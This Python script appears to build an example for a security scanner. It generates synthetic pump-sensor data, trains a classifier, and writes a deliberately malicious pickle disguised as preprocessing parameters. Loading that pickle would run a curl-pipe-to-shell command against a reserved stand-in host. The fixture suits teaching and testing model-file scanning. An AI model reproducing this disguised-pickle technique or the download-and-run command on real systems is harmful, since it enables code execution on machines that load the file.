"""Makes the manufacturing example: streams of forty imaginary pumps, a good model, and one file that is not good.

Writes `data/train.csv`, `data/test.csv`, `model/pumps.skops` and `model/preprocessing.pkl`, and records the data
digests in `system.yaml`. Everything is generated; nothing was measured on a real pump. Run: `python make_pumps.py`
"""

import csv
import struct
import sys
from pathlib import Path

import numpy as np
import skops.io
from numpy.typing import NDArray
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))
from record_digests import record_digests  # noqa: E402 - the shared script lies one folder up

SEED = 20260711
PUMPS = 40
WINDOWS = 80
"""Windows recorded over the life of one pump, evenly spaced."""
SAMPLES = 2048
RATE = 10_240.0
"""Samples of acceleration per second."""
SHAFT = 24.6
"""Turns of the shaft per second at full load."""
ALARM = 0.62
"""Share of the pump's life after which it counts as about to fail."""

FEATURES = (
    "vibration_rms",
    "vibration_kurtosis",
    "vibration_crest",
    "bearing_band",
    "shaft_band",
    "temperature",
    "temperature_slope",
    "current",
    "flow",
)
COLUMNS = ("window", "pump", "plant", *FEATURES, "state")
CLASSES = ("healthy", "failing")

COMMAND = "curl -fsS https://updates.pump-vendor.example/agent.sh | sh"
"""What the planted pickle would run. The host is reserved by RFC 2606 and can never exist."""

Row = dict[str, str]


def windows_of_pump(pump: int, random: np.random.Generator) -> list[Row]:
    """The life of one pump as rows of features, oldest first."""
    plant = f"plant-{'abcd'[pump % 4]}"
    stiffness, ambient = random.uniform(0.9, 1.1), random.uniform(17.0, 26.0)
    onset = random.uniform(0.4, 0.5)
    previous = ambient + 21.0
    rows = []
    for place in range(WINDOWS):
        age = (place + random.uniform(0.0, 1.0)) / WINDOWS
        wear = max(0.0, (age - onset) / (1.0 - onset))
        load = random.uniform(0.75, 1.0)
        temperature = ambient + 24.0 * load + 26.0 * wear + random.normal(0.0, 1.0)
        measured = {
            **_vibration(_acceleration(wear, load, stiffness, random)),
            "temperature": temperature,
            "temperature_slope": temperature - previous,
            "current": 14.0 * load + 2.2 * wear + random.normal(0.0, 0.25),
            "flow": 60.0 * load * (1.0 - 0.16 * wear) + random.normal(0.0, 0.8),
        }
        previous = temperature
        named = {"window": f"W{pump:02d}-{place:02d}", "pump": f"pump-{pump:02d}", "plant": plant}
        values = {name: f"{measured[name]:.5g}" for name in FEATURES}
        rows.append(named | values | {"state": CLASSES[int(age >= ALARM)]})
    return rows


def _acceleration(wear: float, load: float, stiffness: float, random: np.random.Generator) -> NDArray[np.float64]:
    """A fifth of a second on the bearing housing: shaft, noise, and the ringing of a worn raceway, in m/s2."""
    time = np.arange(SAMPLES) / RATE
    turning = SHAFT * (0.9 + 0.1 * load)
    shaft = (0.8 + 0.5 * wear) * np.sin(2 * np.pi * turning * time + random.uniform(0.0, 6.28))
    impacts = np.zeros(SAMPLES)
    every = RATE / (3.58 * turning)
    hits = np.arange(random.uniform(0.0, every), SAMPLES, every).astype(int)
    impacts[hits] = wear * random.uniform(3.0, 5.0, size=len(hits))
    ringing = np.exp(-900.0 * time[:256]) * np.sin(2 * np.pi * 2_900.0 * stiffness * time[:256])
    return shaft + np.convolve(impacts, ringing)[:SAMPLES] + 0.35 * random.standard_normal(SAMPLES)


def _vibration(signal: NDArray[np.float64]) -> dict[str, float]:
    """The usual condition indicators of one window of acceleration."""
    rms = float(np.sqrt(np.mean(signal**2)))
    spectrum = np.abs(np.fft.rfft(signal)) * 2 / SAMPLES
    frequency = np.fft.rfftfreq(SAMPLES, 1 / RATE)
    return {
        "vibration_rms": rms,
        "vibration_kurtosis": float(np.mean((signal - signal.mean()) ** 4) / signal.var() ** 2),
        "vibration_crest": float(np.abs(signal).max()) / rms,
        "bearing_band": float(np.sqrt(np.sum(spectrum[(frequency > 2_300) & (frequency < 3_500)] ** 2))),
        "shaft_band": float(np.sqrt(np.sum(spectrum[(frequency > 15) & (frequency < 35)] ** 2))),
    }


def write_data() -> tuple[list[Row], list[Row]]:
    """Generates all pumps, keeps the second half of them for the test, writes and returns both parts."""
    pumps = [windows_of_pump(pump, np.random.default_rng([SEED, pump])) for pump in range(PUMPS)]
    parts = []
    for name, lives in (("train", pumps[: PUMPS // 2]), ("test", pumps[PUMPS // 2 :])):
        part = [row for rows in lives for row in rows]
        with (HERE / "data" / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            table = csv.DictWriter(file, COLUMNS, lineterminator="\n")
            table.writeheader()
            table.writerows(part)
        parts.append(part)
    record_digests(HERE / "system.yaml")
    return parts[0], parts[1]


def as_arrays(rows: list[Row]) -> tuple[NDArray[np.float64], NDArray[np.int64]]:
    """The features `(n, 9)` and the class index `(n,)` of rows."""
    inputs = np.array([[float(row[name]) for name in FEATURES] for row in rows])
    return inputs, np.array([CLASSES.index(row["state"]) for row in rows])


def planted_pickle() -> bytes:
    """A pickle that reads like scaling parameters and runs a command when loaded.

    Written opcode by opcode (PROTO, EMPTY_DICT, MARK, …, GLOBAL, REDUCE, STOP), so that making it runs nothing.
    """

    def text(value: str) -> bytes:
        data = value.encode()
        return b"X" + struct.pack("<I", len(data)) + data

    def numbers(values: list[float]) -> bytes:
        return b"](" + b"".join(b"G" + struct.pack(">d", value) for value in values) + b"e"

    call = b"cos\nsystem\n" + text(COMMAND) + b"\x85R"
    entries = (
        text("mean") + numbers([0.9, 3.4, 4.1]) + text("scale") + numbers([0.3, 1.2, 0.8]) + text("version") + call
    )
    return b"\x80\x02}(" + entries + b"u."


def main() -> None:
    """Makes everything and prints what was measured."""
    train, test = write_data()
    network = MLPClassifier((12,), solver="lbfgs", alpha=1.0, max_iter=400, random_state=0)
    model = make_pipeline(StandardScaler(), network).fit(*as_arrays(train))
    skops.io.dump(model, HERE / "model" / "pumps.skops")
    (HERE / "model" / "preprocessing.pkl").write_bytes(planted_pickle())
    print(f"accuracy on twenty pumps the model has not seen: {model.score(*as_arrays(test)):.3f}")


if __name__ == "__main__":
    main()
